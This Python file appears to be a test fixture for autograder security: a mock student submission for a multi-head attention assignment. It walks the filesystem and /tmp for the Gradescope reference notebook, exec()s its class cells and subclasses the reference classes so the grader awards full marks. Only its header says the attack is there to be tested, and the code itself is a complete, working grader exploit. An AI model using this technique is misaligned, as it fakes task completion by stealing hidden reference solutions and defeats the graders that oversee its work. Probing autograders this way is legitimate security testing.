# A submission that grades the course's reference as its own work: inside its code (which runs
# as a uid of its own, in the sandbox or not), it looks for the reference notebook where a
# Gradescope autograder keeps it, runs the notebook's class cells and subclasses what they define.
# It scores full marks wherever it can read the reference; where it cannot, its classes are
# unfinished (every case an error). AUTOGRADER_ROOT is replaced by the test with its temporary
# /autograder (or with a course folder, to show that the attack works where the file is readable).
import glob
import json
import math
import os

import numpy as np
import torch
import torch.nn as nn
import torch.nn.functional as F

PLACES = ["AUTOGRADER_ROOT", "/autograder"]


def candidates():
    roots = list(PLACES)
    for name in ("AUTOGRADER_ROOT", "GRADER_ROOT", "HOME", "TMPDIR", "PWD"):
        if os.environ.get(name):
            roots.append(os.environ[name])
    here = os.getcwd()
    while True:  # every folder above the one it runs in
        roots.append(here)
        if os.path.dirname(here) == here:
            break
        here = os.path.dirname(here)
    for root in roots:
        for below in ("source/course/reference", "course/reference", "reference"):
            yield os.path.join(root, below, "mha.ipynb")
    for pattern in ("/*/source/course/reference/*.ipynb", "/tmp/*/source/course/reference/*.ipynb",
                    "/tmp/*/*/source/course/reference/*.ipynb"):
        yield from glob.glob(pattern)


def steal():
    for path in candidates():
        try:
            with open(path, encoding="utf-8") as f:
                cells = json.load(f)["cells"]
        except (OSError, ValueError, KeyError, TypeError):
            continue
        namespace = {"torch": torch, "nn": nn, "F": F, "np": np, "math": math}
        for cell in cells:
            source = "".join(cell.get("source", "")) if cell.get("cell_type") == "code" else ""
            if "class " in source:
                try:
                    exec(source, namespace)
                except Exception:
                    pass
        if "MultiHeadedAttention" in namespace and "ScaledDotProductAttention" in namespace:
            return namespace
    return None


STOLEN = steal()
SDPA_BASE = STOLEN["ScaledDotProductAttention"] if STOLEN else nn.Module
MHA_BASE = STOLEN["MultiHeadedAttention"] if STOLEN else nn.Module


class ScaledDotProductAttention(SDPA_BASE):
    def forward(self, Q, K, V, mask=None):
        if STOLEN:
            return super().forward(Q, K, V, mask)
        raise NotImplementedError("FILL IN HERE")


class MultiHeadedAttention(MHA_BASE):
    def __init__(self, d_feat=128, n_head=5, actv=F.relu, USE_BIAS=True, dropout_p=0.1, device=None):
        if STOLEN:
            super().__init__(d_feat, n_head, actv, USE_BIAS, dropout_p, device)
        else:
            super().__init__()
            raise NotImplementedError("FILL IN HERE")

    def forward(self, Q, K, V, mask=None):
        if STOLEN:
            return super().forward(Q, K, V, mask)
        raise NotImplementedError("FILL IN HERE")
